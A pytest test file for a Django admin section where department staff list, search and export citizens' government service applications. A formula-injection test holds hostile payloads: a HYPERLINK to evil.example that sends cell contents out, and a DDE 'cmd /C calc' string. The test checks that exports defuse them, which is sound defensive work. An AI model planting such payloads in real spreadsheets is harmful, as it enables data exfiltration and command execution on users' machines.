"""Department staff's 申请 section in the admin: the listing, its filters and search, a submission's page and the
export of the listing (content, formula safety read back with openpyxl, filename). Who may see what is tried as a
matrix in test_staff_isolation.py."""

import csv
import datetime
import io
import re

import pytest
from django.contrib.auth.models import Group
from django.urls import reverse
from django.utils import timezone
from django.utils.datastructures import MultiValueDict
from openpyxl import load_workbook

from applications import service, wizard
from applications.models import Submission
from applications.tracking import grouped
from catalog import roles
from catalog.spreadsheets import is_formula_like
from tests.catalog.factories import DepartmentFactory, ServiceItemFactory, UserFactory

from .conftest import give_form, make_applicant
from .helpers import PDF, pdf
from .samples import AGENT_ID, VALID_ID

pytestmark = pytest.mark.django_db

INDEX = "/admin/submissions/"
RESULTS = "/admin/submissions/results/"
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'


def detail_url(submission):
    return reverse("tongban_submissions:detail", args=[submission.pk])


def file_url(submission, upload=None):
    upload = upload or submission.uploads.get()
    return reverse("tongban_submissions:file", args=[submission.pk, upload.pk])


def submit(applicant, item, agent="no", use="job", other_use="", members=(), mail="no", address=""):
    """A submission made through the applicant's own service calls (draft, answers, submit), as the wizard does."""
    form = service.form_for(item)
    draft = service.open_draft(applicant, item, form)
    answers = {"situation": {"agent": agent, "use": use},
               "form": {"name": applicant.name, "id_number": applicant.id_number, "mobile": applicant.mobile,
                        "copies": 2, "fee": 12.5, "mail": mail, "promise": True, "members": list(members)}}
    if agent == "yes":
        answers["form"].update(agent_name="王五", agent_id=AGENT_ID)
    if other_use:
        answers["form"]["other_use"] = other_use
    if address:
        answers["form"]["mail_address"] = address
    # The required material slots get their files as the wizard's last step receives them.
    files = MultiValueDict({"form.id_scan": [pdf(f"{applicant.name}的身份证.pdf")]})
    if agent == "yes":
        files.appendlist("form.proxy_scan", pdf("委托书.pdf"))
    answers, refused = service.receive_files(draft, form, wizard.plan_of(form).steps[-1], answers, files)
    assert not refused, refused
    service.save_step(draft, answers, 3)
    submission = service.submit(applicant, item, form, draft.idempotency_key)
    assert submission.department_id == item.department_id
    return submission


@pytest.fixture
def staff_world(db):
    return build_world()


def build_world():
    """Department A (区公安分局) with a sub-department, department B (区行政审批局); an item with an online form in
    each, one submission to each, one user per role."""

    class World:
        pass

    w = World()
    w.dept_a = DepartmentFactory(name="区公安分局", division_code="511602")
    w.dept_a_sub = DepartmentFactory(name="区公安分局城北派出所", parent=w.dept_a, division_code="511602")
    w.dept_b = DepartmentFactory(name="区行政审批局", division_code="511602")
    w.item_a = give_form(ServiceItemFactory(name="无犯罪记录证明", department=w.dept_a, promised_limit=5,
                                            promised_limit_unit="2"))
    w.item_a_sub = give_form(ServiceItemFactory(name="户口迁移审批", department=w.dept_a_sub))
    w.item_b = give_form(ServiceItemFactory(name="分公司设立登记", department=w.dept_b))
    w.zhang = make_applicant()
    w.li = make_applicant(mobile="13900000002", name="李四", id_number=AGENT_ID)
    w.zhao = make_applicant(mobile="13700000003", name="赵六", id_number=VALID_ID, kind="company",
                            company_name="广安市某某商贸有限公司", credit_code="91511602MA62ABCD1X")
    w.sub_a = submit(w.zhang, w.item_a)
    w.sub_a_sub = submit(w.li, w.item_a_sub)
    w.sub_b = submit(w.zhao, w.item_b)
    w.dept_admin_a = UserFactory(username="gaj", role=roles.DEPARTMENT_ADMIN, departments=[w.dept_a])
    w.dept_admin_a_sub = UserFactory(username="gaj-cbpcs", role=roles.DEPARTMENT_ADMIN, departments=[w.dept_a_sub])
    w.dept_admin_b = UserFactory(username="spj", role=roles.DEPARTMENT_ADMIN, departments=[w.dept_b])
    w.editor = UserFactory(username="editor", role=roles.EDITOR)
    w.sysadmin = UserFactory(username="sysadmin", role=roles.SYSTEM_ADMIN)
    return w


def page_of(response) -> str:
    """A page's HTML and its text without the tags (a number shown in groups of spans reads as one)."""
    html = response.content.decode()
    return html + "\n" + re.sub(r"<[^>]+>", "", html)


def body(response) -> bytes:
    """The response's bytes (a streamed one is read once and kept)."""
    if not response.streaming:
        return response.content
    if not hasattr(response, "_read_body"):
        response._read_body = b"".join(response.streaming_content)
    return response._read_body


def xlsx_rows(response):
    sheet = load_workbook(io.BytesIO(body(response))).active
    return [[cell.value for cell in row] for row in sheet.iter_rows()], sheet


def csv_rows(response):
    text = body(response).decode("utf-8")
    assert text.startswith("\ufeff")  # so that Excel and WPS read it as UTF-8
    return list(csv.reader(io.StringIO(text[1:])))


# --- the roles ---------------------------------------------------------------------------------------------------
def test_the_department_roles_may_view_submissions_and_editors_may_not(staff_world):
    def codenames(name):
        return set(Group.objects.get(name=name).permissions.values_list("codename", flat=True))

    assert "view_submission" in codenames(roles.DEPARTMENT_ADMIN)
    assert "view_submission" in codenames(roles.SYSTEM_ADMIN)
    assert "view_submission" not in codenames(roles.EDITOR)
    for name in (roles.DEPARTMENT_ADMIN, roles.SYSTEM_ADMIN):  # read-only: nobody may change one
        assert not codenames(name) & {"add_submission", "change_submission", "delete_submission"}


def test_the_menu_shows_the_section_to_those_who_may_see_it(client, staff_world):
    client.force_login(staff_world.dept_admin_a)
    assert INDEX in client.get("/admin/").content.decode()
    client.force_login(staff_world.editor)
    assert INDEX not in client.get("/admin/").content.decode()


# --- the listing -------------------------------------------------------------------------------------------------
def test_the_listing_shows_the_departments_submissions_newest_first(client, staff_world):
    w = staff_world
    client.force_login(w.dept_admin_a)
    page = page_of(client.get(INDEX))
    for text in (grouped(w.sub_a.tracking_number), grouped(w.sub_a_sub.tracking_number), "无犯罪记录证明",
                 "户口迁移审批", "区公安分局城北派出所", "张三", "李四", detail_url(w.sub_a)):
        assert text in page, text
    assert page.index(grouped(w.sub_a_sub.tracking_number)) < page.index(grouped(w.sub_a.tracking_number))
    assert grouped(w.sub_b.tracking_number) not in page and "分公司设立登记" not in page
    # nothing to add or edit
    assert "/edit/" not in page and "/new/" not in page


def test_a_company_is_listed_by_its_name(client, staff_world):
    client.force_login(staff_world.dept_admin_b)
    assert "广安市某某商贸有限公司" in page_of(client.get(INDEX))


def test_the_listing_is_paginated_with_a_constant_number_of_queries(client, staff_world):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    w = staff_world
    client.force_login(w.dept_admin_a)
    with CaptureQueriesContext(connection) as few:
        assert client.get(INDEX).status_code == 200
    template = Submission.objects.filter(pk=w.sub_a.pk).values().get()
    Submission.objects.bulk_create(
        Submission(**{**template, "id": None, "tracking_number": f"{w.sub_a.tracking_number[:-4]}{n:04d}",
                      "idempotency_key": f"00000000-0000-0000-0000-{n:012d}"})
        for n in range(60))
    with CaptureQueriesContext(connection) as many:
        first = page_of(client.get(INDEX))
    assert len(many.captured_queries) == len(few.captured_queries)  # not one query per row
    second = page_of(client.get(INDEX, {"p": 2}))
    links = re.compile(r'href="/admin/submissions/(\d+)/"')
    assert len(set(links.findall(first))) == 50 and len(set(links.findall(second))) == 12
    assert not set(links.findall(first)) & set(links.findall(second))


def test_filters_by_department_item_and_date(client, staff_world):
    w = staff_world
    client.force_login(w.dept_admin_a)
    a, a_sub = grouped(w.sub_a.tracking_number), grouped(w.sub_a_sub.tracking_number)

    by_department = page_of(client.get(RESULTS, {"department": w.dept_a_sub.pk}))
    assert a_sub in by_department and a not in by_department
    by_item = page_of(client.get(RESULTS, {"item": w.item_a.pk}))
    assert a in by_item and a_sub not in by_item

    earlier = timezone.now() - datetime.timedelta(days=10)
    Submission.objects.filter(pk=w.sub_a.pk).update(submitted_at=earlier)
    day = timezone.localdate(earlier).isoformat()
    that_day = page_of(client.get(RESULTS, {"submitted_at_from": day, "submitted_at_to": day}))
    assert a in that_day and a_sub not in that_day
    since = page_of(client.get(RESULTS, {"submitted_at_from": timezone.localdate().isoformat()}))
    assert a_sub in since and a not in since


def test_the_filters_offer_only_the_users_departments_and_items(client, staff_world):
    client.force_login(staff_world.dept_admin_a)
    page = page_of(client.get(INDEX))
    assert "区公安分局城北派出所" in page
    assert "区行政审批局" not in page and "分公司设立登记" not in page


@pytest.mark.parametrize("query", ["{number}", "{spaced}", "{lower}", "{tail}"])
def test_search_by_tracking_number(client, staff_world, query):
    w = staff_world
    number = w.sub_a.tracking_number
    text = query.format(number=number, spaced=grouped(number), lower=number.lower(), tail=number[14:])
    client.force_login(w.dept_admin_a)
    found = page_of(client.get(RESULTS, {"q": text}))
    assert grouped(number) in found and grouped(w.sub_a_sub.tracking_number) not in found


def test_search_by_applicant_name_and_company(client, staff_world):
    w = staff_world
    client.force_login(w.dept_admin_a)
    found = page_of(client.get(RESULTS, {"q": "李四"}))
    assert grouped(w.sub_a_sub.tracking_number) in found and grouped(w.sub_a.tracking_number) not in found
    client.force_login(w.sysadmin)
    found = page_of(client.get(RESULTS, {"q": "某某商贸"}))
    assert grouped(w.sub_b.tracking_number) in found and grouped(w.sub_a.tracking_number) not in found


# --- a submission's page -------------------------------------------------------------------------------------------
def test_the_page_shows_applicant_answers_and_materials(client, staff_world):
    w = staff_world
    client.force_login(w.dept_admin_a)
    page = client.get(detail_url(w.sub_a)).content.decode()
    for text in (grouped(w.sub_a.tracking_number), "无犯罪记录证明", w.item_a.implementation_code, "区公安分局",
                 # the applicant
                 "张三", VALID_ID, "13800000001",
                 # the answers as the check page shows them: choices by their label, amounts, the declaration
                 "是否委托他人代办？", "就业、入职", "份数", "12.50 元", "25.00 元", "已阅读并承诺",
                 # the checklist for these answers, the time limit
                 "居民身份证", "5个工作日"):
        assert text in page, text
    assert "代办人姓名" not in page and "委托书" not in page  # not asked, not required when 委托=否
    assert "张三的身份证.pdf" in page and file_url(w.sub_a) in page


def test_staff_download_the_files_received(client, staff_world):
    w = staff_world
    client.force_login(w.dept_admin_a)
    response = client.get(file_url(w.sub_a))
    assert response.status_code == 200 and body(response) == PDF
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"].startswith("attachment; filename*=utf-8''")  # never inline
    assert "sandbox" in response["Content-Security-Policy"]
    # a file of another submission, asked for under this one, is not found
    other = w.sub_a_sub.uploads.get()
    assert client.get(reverse("tongban_submissions:file", args=[w.sub_a.pk, other.pk])).status_code == 404
    assert client.get(reverse("tongban_submissions:file", args=[w.sub_a.pk, "not-a-uuid"])).status_code == 404


def test_the_page_shows_the_agent_and_repeating_rows_when_given(client, staff_world):
    w = staff_world
    other = submit(w.zhang, w.item_a, agent="yes", members=[{"member_name": "王小明", "member_id": AGENT_ID}],
                   mail="yes", address="广安区建设路1号")
    client.force_login(w.dept_admin_a)
    page = client.get(detail_url(other)).content.decode()
    for text in ("代办人姓名", "王五", AGENT_ID, "委托书", "同行人员", "人员 1", "王小明", "广安区建设路1号"):
        assert text in page, text


def test_the_page_is_read_only(client, staff_world):
    w = staff_world
    client.force_login(w.sysadmin)  # even a superuser-like role: there is nothing to post to
    before = Submission.objects.filter(pk=w.sub_a.pk).values().get()
    response = client.post(detail_url(w.sub_a), {"answers": "{}", "tracking_number": "X"})
    assert response.status_code == 405
    assert Submission.objects.filter(pk=w.sub_a.pk).values().get() == before
    assert "/edit/" not in client.get(detail_url(w.sub_a)).content.decode()


def test_an_unknown_or_malformed_id_is_404(client, staff_world):
    client.force_login(staff_world.sysadmin)
    for pk in ("999999", "abc", "1x"):
        assert client.get(f"{INDEX}{pk}/").status_code == 404


# --- the export --------------------------------------------------------------------------------------------------
def test_the_xlsx_export_holds_one_row_per_submission_with_the_answers(client, staff_world):
    w = staff_world
    client.force_login(w.dept_admin_a)
    response = client.get(INDEX, {"export": "xlsx"})
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment; filename*=utf-8''")
    assert "%E7%BD%91%E4%B8%8A%E7%94%B3%E8%AF%B7" in disposition and disposition.endswith(".xlsx")  # 网上申请
    rows, _sheet = xlsx_rows(response)
    header = rows[0]
    assert header[:5] == ["申请编号", "提交时间", "事项", "实施部门", "申请人"]
    for label in ("是否委托他人代办？", "证明的用途是什么？", "姓名", "居民身份证号码", "份数", "单价", "合计",
                  "承诺书"):
        assert label in header, label
    assert "身份证扫描件" not in header  # files are not answers
    by_number = {row[0]: dict(zip(header, row, strict=True)) for row in rows[1:]}
    assert set(by_number) == {w.sub_a.tracking_number, w.sub_a_sub.tracking_number}
    row = by_number[w.sub_a.tracking_number]
    assert row["事项"] == "无犯罪记录证明" and row["实施部门"] == "区公安分局" and row["申请人"] == "张三"
    assert row["证明的用途是什么？"] == "就业、入职" and row["是否委托他人代办？"] == "否"
    assert row["份数"] == "2" and row["单价"] == "12.50 元" and row["合计"] == "25.00 元"
    assert row["居民身份证号码"] == VALID_ID  # text, not a number that loses its last digits
    local = timezone.make_naive(timezone.localtime(w.sub_a.submitted_at)).replace(microsecond=0)
    assert isinstance(row["提交时间"], datetime.datetime) and abs((row["提交时间"] - local).total_seconds()) < 1


def test_the_csv_export_matches_the_listing_and_its_filters(client, staff_world):
    w = staff_world
    client.force_login(w.dept_admin_a)
    response = client.get(INDEX, {"export": "csv", "department": w.dept_a_sub.pk})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith("attachment; filename*=utf-8''")
    assert response["Content-Disposition"].endswith(".csv")
    rows = csv_rows(response)
    assert rows[0][:5] == ["申请编号", "提交时间", "事项", "实施部门", "申请人"]
    assert [row[0] for row in rows[1:]] == [w.sub_a_sub.tracking_number]
    searched = csv_rows(client.get(INDEX, {"export": "csv", "q": "张三"}))
    assert [row[0] for row in searched[1:]] == [w.sub_a.tracking_number]


def test_a_company_and_repeating_rows_in_the_export(client, staff_world):
    w = staff_world
    submit(w.zhao, w.item_b, members=[{"member_name": "王小明", "member_id": AGENT_ID}, {"member_name": "刘二"}])
    client.force_login(w.dept_admin_b)
    rows = csv_rows(client.get(INDEX, {"export": "csv"}))
    header = rows[0]
    newest = dict(zip(header, rows[1], strict=True))
    assert newest["申请人"] == "广安市某某商贸有限公司（经办人：赵六）"
    assert newest["同行人员"] == f"人员 1：姓名：王小明；身份证号码：{AGENT_ID}\n人员 2：姓名：刘二"


@pytest.mark.parametrize("hostile", [HOSTILE, "+1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd", " ＝1+1", "-2+3"])
def test_formula_like_answers_come_out_as_text(client, staff_world, hostile):
    w = staff_world
    made = submit(w.zhang, w.item_a, use="other", other_use=hostile)
    hostile = made.answers["form"]["other_use"]  # as stored (the server trims the text)
    assert is_formula_like(hostile)
    client.force_login(w.dept_admin_a)

    rows, sheet = xlsx_rows(client.get(INDEX, {"export": "xlsx"}))
    column = rows[0].index("其他用途说明")
    line = next(index for index, row in enumerate(rows) if row[0] == made.tracking_number)
    cell = sheet.cell(row=line + 1, column=column + 1)
    assert cell.value == hostile and cell.data_type == "s" and cell.quotePrefix

    rows = csv_rows(client.get(INDEX, {"export": "csv"}))
    row = next(row for row in rows if row[0] == made.tracking_number)
    assert row[rows[0].index("其他用途说明")] == "'" + hostile


def test_equal_labels_of_one_form_get_their_step(staff_world):
    from applications.staff import form_columns

    ui = {"steps": [
        {"title": "申请人", "fields": [{"type": "person_name", "path": "form.name", "label": "姓名"}]},
        {"title": "代办人", "fields": [{"type": "group", "fields": [
            {"type": "person_name", "path": "form.agent", "label": "姓名"}]},
            {"type": "static_text", "label": "说明"}, {"type": "upload", "path": "form.scan", "label": "扫描件"}]},
    ]}
    assert [heading for heading, _field in form_columns(ui)] == ["姓名", "姓名（代办人）"]


def test_an_export_of_nothing_is_a_header(client, staff_world):
    client.force_login(staff_world.dept_admin_a)
    rows = csv_rows(client.get(INDEX, {"export": "csv", "q": "没有这个人"}))
    assert rows == [["申请编号", "提交时间", "事项", "实施部门", "申请人"]]
